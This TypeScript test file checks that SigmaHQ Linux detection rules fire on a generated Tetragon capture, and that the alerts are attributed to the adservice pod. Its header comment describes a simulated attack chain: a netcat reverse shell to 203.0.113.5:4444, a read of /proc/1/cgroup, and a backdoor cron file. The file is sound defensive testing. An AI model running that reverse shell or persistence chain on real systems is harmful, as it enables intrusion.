// Detection on the generated Tetragon capture (test/support/tetragon-gen.ts), pass 1 as the
// pipeline runs it: readProvenance → AutoAttributor + SigmaEventCollector, then SigmaHQ's Linux rules.
// The clean capture raises nothing; the `attack` option adds, in adservice's pod, Java starting a
// shell that runs `nc -e /bin/sh 203.0.113.5 4444`, `cat /proc/1/cgroup` and `tee /etc/cron.d/backdoor`:
// each step raises its rule (as the same chain in SPADE's shapes does in corpus.test.ts), attributed
// to adservice and its pod.
import path from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { type DetectionResult, detectInCaptures } from '../../src/detection/detect.js';
import { RuleSet } from '../../src/detection/rules.js';
import { loadRules } from '../../src/detection/sigma/load.js';
import { loadClusterObjectsFile } from '../../src/kubernetes/load.js';
import { type CaptureRun, observeInput } from '../support/detect-capture.js';
import { repoRoot } from '../support/run-cli.js';
import { exportText } from '../support/tetragon-forms.js';
import { CORAL_SERVICES, type GeneratedCapture, generateTetragonCapture } from '../support/tetragon-gen.js';
import { memoryInput } from '../tetragon/support.js';

const LINUX_RULES = path.resolve(repoRoot, '..', 'shared', 'corpus', 'sigma', 'rules', 'linux');

describe('SigmaHQ Linux rules on the generated Tetragon capture', () => {
  let rules: RuleSet;
  let clean: GeneratedCapture;
  let attacked: GeneratedCapture;
  let cleanRun: CaptureRun;
  let attackedRun: CaptureRun;
  let cleanResult: DetectionResult;
  let attackedResult: DetectionResult;

  beforeAll(async () => {
    rules = RuleSet.forCapture(await loadRules([LINUX_RULES], { skipInvalid: false }));
    const services = await loadClusterObjectsFile(CORAL_SERVICES);
    clean = generateTetragonCapture({ rounds: 6, ns: true });
    attacked = generateTetragonCapture({ rounds: 6, ns: true, attack: true });
    cleanRun = await observeInput(memoryInput(exportText(clean.lines)), services, 'clean', true);
    attackedRun = await observeInput(memoryInput(exportText(attacked.lines)), services, 'attacked', true);
    cleanResult = detectInCaptures(rules, [cleanRun.events], cleanRun.outcome.flows().rows);
    attackedResult = detectInCaptures(rules, [attackedRun.events], attackedRun.outcome.flows().rows);
  });

  it('the clean capture: every exec, file write and connect becomes an event, and no rule fires', () => {
    const t = clean.truth;
    const procFs = [...cleanRun.processes.values()].filter((a) => a['exec flags']?.includes('procFS')).length;
    expect(procFs).toBe(3); // systemd, containerd, kubelet: running before the capture, one event each
    // Writes (both policy styles) by (process, file), as the capture's lines hold them.
    const writes = new Set<string>();
    for (const line of clean.lines) {
      const k = (JSON.parse(line) as { process_kprobe?: { process: { exec_id: string }; function_name: string; args: { file_arg?: { path: string } }[] } }).process_kprobe;
      if (k && /security_file_permission|sys_write/.test(k.function_name)) writes.add(`${k.process.exec_id} ${k.args[0]!.file_arg!.path}`);
    }
    expect(cleanResult.summary.events.byCategory).toEqual({
      process_creation: t.events.process_exec! + procFs,
      file_event: writes.size,
      // One event per (process, socket): the calls' sockets, the probes', the kubelet's.
      network_connection: new Set(t.calls.map((c) => `${c.execId}:${c.sport}`)).size + t.probeConnects.length + t.hostConnects.length,
    });
    expect(writes.size).toBeGreaterThan(3);
    expect(cleanResult.alerts).toEqual([]);
  });

  it('the attack raises each step’s rule once, attributed to adservice and its pod', () => {
    const a = attacked.truth.attack!;
    const expected = [
      { rule: 'proc_creation_lnx_susp_java_children.yml', pid: a.shell.pid, category: 'process_creation', parentExe: '/opt/java/openjdk/bin/java', target: '' },
      { rule: 'proc_creation_lnx_netcat_reverse_shell.yml', pid: a.netcat.pid, category: 'process_creation', parentExe: '/bin/sh', target: '' },
      // Linux Network Service Scanning Tools Execution: any netcat not listening (SPADE's attack raises it too).
      { rule: 'proc_creation_lnx_susp_network_utilities_execution.yml', pid: a.netcat.pid, category: 'process_creation', parentExe: '/bin/sh', target: '' },
      { rule: 'net_connection_lnx_susp_malware_callback_port.yml', pid: a.netcat.pid, category: 'network_connection', parentExe: '', target: `${a.remote.address}:${a.remote.port}` },
      { rule: 'proc_creation_lnx_susp_container_residence_discovery.yml', pid: a.cat.pid, category: 'process_creation', parentExe: '/bin/sh', target: '' },
      { rule: 'file_event_lnx_susp_cron_file_created.yml', pid: a.tee.pid, category: 'file_event', parentExe: '', target: a.cronFile },
    ];
    const got = attackedResult.alerts.map((x) => ({ rule: path.basename(x.ruleFile), pid: Number(x.pid), category: x.category, parentExe: x.parentExe, target: x.target }));
    expect(got.sort((x, y) => x.rule.localeCompare(y.rule))).toEqual(expected.sort((x, y) => x.rule.localeCompare(y.rule)));
    for (const alert of attackedResult.alerts) {
      expect(alert).toMatchObject({ svc: a.service, svcNamespace: 'default', pod: a.pod, attribution: 'pod', capture: 'attacked' });
      expect(alert.matched.length).toBeGreaterThan(0);
    }
    expect(attackedResult.summary.alerts.byService).toEqual({ adservice: expected.length });
  });

  it('the alerts name the attack’s processes by their exec_id, and its connection is a flow of adservice', () => {
    const a = attacked.truth.attack!;
    const ids = new Set(attackedResult.alerts.map((x) => x.processId));
    expect(ids).toEqual(new Set([a.shell.execId, a.netcat.execId, a.cat.execId, a.tee.execId]));
    const flow = attackedRun.outcome.flows().rows.find((f) => f.dstAddress === a.remote.address);
    expect(flow).toMatchObject({ svcFrom: 'adservice', svcTo: '', dstPort: String(a.remote.port), connections: 1, observed: 'connect' });
  });
});
